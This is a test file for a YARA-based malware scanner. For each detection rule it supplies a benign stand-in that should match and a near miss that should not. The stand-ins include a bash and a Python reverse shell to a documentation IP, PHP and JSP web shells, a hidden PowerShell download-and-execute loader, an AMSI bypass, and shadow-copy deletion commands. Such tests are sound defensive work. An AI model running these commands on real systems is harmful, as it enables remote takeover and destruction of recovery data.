// Each YARA rule that ships fires on a benign stand-in, a text that says what its target would and does nothing, and not on a near miss.

import { describe, expect, test } from "bun:test";
import { externalsOf } from "../../src/control/scan/externals.ts";
import { loadYara } from "../../src/control/scan/mod.ts";
import { Scanner, validateYara, yaraRuntime } from "../../src/detect/yara/mod.ts";

const { files, set } = await loadYara({ rulesPaths: [] });
const { scanner, compiled } = Scanner.compile(set.namespaces);

const bytes = (...parts: readonly (string | readonly number[])[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))));
/** Begins as an ELF does, and is none. The section table's place and number are zero. */
const elf = bytes("\x7fELF\x02\x01\x01", Array(57).fill(0));
const elfWithSections = bytes(
  "\x7fELF\x02\x01\x01",
  Array(33).fill(0),
  [1],
  Array(7).fill(0),
  [9, 0, 9, 0],
  Array(12).fill(9),
);
const mz = bytes("MZ", Array(62).fill(0));
const z = "\0";
const wide = (text: string): string => [...text].map((sign) => `${sign}\0`).join("");

interface Proof {
  readonly standIn: Buffer;
  readonly nearMiss: Buffer;
}

const proofs: Readonly<Record<string, Proof>> = {
  linux_preload_rootkit: {
    standIn: bytes(elf.toString("latin1"), "/etc/ld.so.preload", z, "dlsym", z, "readdir64", z, "/proc/self/fd/%d", z),
    // The loader itself: names the file, replaces nothing.
    nearMiss: bytes(elf.toString("latin1"), "/etc/ld.so.preload", z, "dlsym", z, "/proc/self/fd/%d", z),
  },
  linux_pam_password_thief: {
    standIn: bytes(
      elf.toString("latin1"),
      "pam_sm_authenticate",
      z,
      "pam_get_authtok",
      z,
      "/var/tmp/.cache",
      z,
      "%s:%s\n",
      z,
    ),
    nearMiss: bytes(
      elf.toString("latin1"),
      "pam_sm_authenticate",
      z,
      "pam_get_authtok",
      z,
      "/var/run/faillock",
      z,
      "%s:%s\n",
      z,
    ),
  },
  linux_kernel_rootkit: {
    standIn: bytes(
      elf.toString("latin1"),
      "vermagic=6.1",
      z,
      "kallsyms_lookup_name",
      z,
      "__x64_sys_getdents64",
      z,
      "register_kprobe",
      z,
    ),
    nearMiss: bytes(elf.toString("latin1"), "vermagic=6.1", z, "register_kprobe", z, "do_sys_open", z),
  },
  linux_shellcode_connect_back: {
    standIn: bytes(
      ...["....", [0x6a, 0x29, 0x58, 0x99, 0x6a, 0x02, 0x5f, 0x6a, 0x01, 0x5e, 0x0f, 0x05]],
      ...[[0x6a, 0x2a, 0x58, 0x0f, 0x05], [0x6a, 0x21, 0x58, 0x0f, 0x05], "/bin/sh"],
    ),
    nearMiss: bytes([0x6a, 0x29, 0x58, 0x99, 0x6a, 0x02, 0x5f, 0x6a, 0x01, 0x5e, 0x0f, 0x05], "/bin/sh"),
  },
  linux_packed_elf: {
    standIn: bytes(elf.toString("latin1"), Array(64).fill(1), "UPX!"),
    // The packer itself has sections.
    nearMiss: bytes(elfWithSections.toString("latin1"), Array(64).fill(1), "UPX!"),
  },
  linux_cryptominer: {
    standIn: bytes('{"url": "stratum+tcp://pool.example:3333", "algo": "randomx", "donate-level": 1}'),
    nearMiss: bytes("A wiki page that explains what stratum+tcp:// means for the hashrate."),
  },
  linux_shell_connect_back: {
    standIn: bytes("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
    nearMiss: bytes(
      "#!/bin/bash\n# waits for a port\nuntil (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n",
    ),
  },
  script_interpreter_connect_back: {
    standIn: bytes(
      "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
    ),
    nearMiss: bytes("import socket\ns=socket.socket()\ns.connect(('192.0.2.1',1))\ns.send(b'hello')\n"),
  },
  web_shell_php: {
    standIn: bytes("<?php @eval(base64_decode($_POST['x'])); ?>"),
    nearMiss: bytes("<?php echo htmlspecialchars($_POST['x']); eval($template); ?>"),
  },
  web_shell_jsp: {
    standIn: bytes('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    nearMiss: bytes('<% out.print(request.getParameter("name")); %>'),
  },
  eicar_test_file: {
    standIn: bytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
    nearMiss: bytes("about ", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
  },
  windows_lsass_dump: {
    standIn: bytes(
      mz.toString("latin1"),
      "MiniDumpWriteDump",
      z,
      z,
      wide("lsass.exe"),
      z,
      wide("SeDebugPrivilege"),
      z,
      "OpenProcess",
      z,
    ),
    nearMiss: bytes(
      mz.toString("latin1"),
      "MiniDumpWriteDump",
      z,
      wide("crash.dmp"),
      z,
      wide("SeDebugPrivilege"),
      z,
      "OpenProcess",
      z,
    ),
  },
  windows_process_injection: {
    standIn: bytes(
      ...[mz.toString("latin1"), "VirtualAllocEx", z, "WriteProcessMemory", z, "CreateRemoteThread", z],
      ...["CreateToolhelp32Snapshot", z],
    ),
    nearMiss: bytes(
      ...[mz.toString("latin1"), "VirtualAllocEx", z, "WriteProcessMemory", z, "CreateRemoteThread", z],
      ...["CreateToolhelp32Snapshot", z, "DebugActiveProcess", z],
    ),
  },
  windows_amsi_bypass: {
    standIn: bytes("$a='System.Management.Automation.AmsiUtils'; $f='amsiInitFailed'; $x.SetValue($null,$true)"),
    nearMiss: bytes(mz.toString("latin1"), "AmsiScanBuffer", z, "amsi.dll", z, "VirtualProtect", z),
  },
  windows_powershell_loader: {
    standIn: bytes("powershell -w hidden -enc x; IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
    nearMiss: bytes("(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') | Out-File a.txt"),
  },
  windows_recovery_removed: {
    standIn: bytes("vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no"),
    nearMiss: bytes("vssadmin list shadows & bcdedit /enum"),
  },
};

const found = (data: Buffer): string[] =>
  scanner.scan(data, externalsOf("/tmp/x", 0n)).findings.map(({ rule }) => rule);

test("every YARA rule that ships compiles without a warning and says who, what, when and how bad", () => {
  expect([files.diagnostics, set.diagnostics, compiled.diagnostics]).toEqual([[], [], []]);
  for (const namespace of set.namespaces)
    expect([namespace.name, validateYara(yaraRuntime(), namespace)]).toEqual([namespace.name, []]);
  expect(compiled.rules.length).toBeGreaterThanOrEqual(15);
  for (const { name, meta } of compiled.rules) {
    const names = meta.map(([key]) => key);
    for (const key of ["description", "author", "date", "reference", "severity", "license"])
      expect([name, key, names.includes(key)]).toEqual([name, key, true]);
  }
});

test("every YARA rule that ships has a proof", () => {
  expect(Object.keys(proofs).sort()).toEqual(compiled.rules.map(({ name }) => name).sort());
});

describe("a YARA rule that ships", () => {
  for (const [name, { standIn, nearMiss }] of Object.entries(proofs))
    test(`${name} fires on its stand-in alone, and not on its near miss`, () => {
      expect(found(standIn)).toEqual([name]);
      expect(found(nearMiss)).toEqual([]);
    });
});
